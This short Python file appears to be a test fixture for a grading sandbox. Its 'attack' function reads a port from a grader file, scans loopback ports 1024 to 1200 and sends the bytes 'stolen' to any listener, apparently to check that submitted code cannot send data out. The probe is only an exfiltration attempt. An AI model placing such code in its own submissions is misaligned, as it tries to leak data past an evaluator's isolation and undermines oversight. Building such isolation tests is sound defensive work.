"""attack: tries to send data to a listener on loopback (ports 1024 to 1200 and a port file)"""

import os
import sys

import torch

import socket


def _exfiltrate():
    ports = list(range(1024, 1200))
    try:
        with open("/tmp/grader-attack-port") as handle:
            ports.insert(0, int(handle.read()))
    except (OSError, ValueError):
        pass
    for port in ports:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
                connection.sendall(b"stolen")
        except OSError:
            pass


def attack():
    _exfiltrate()
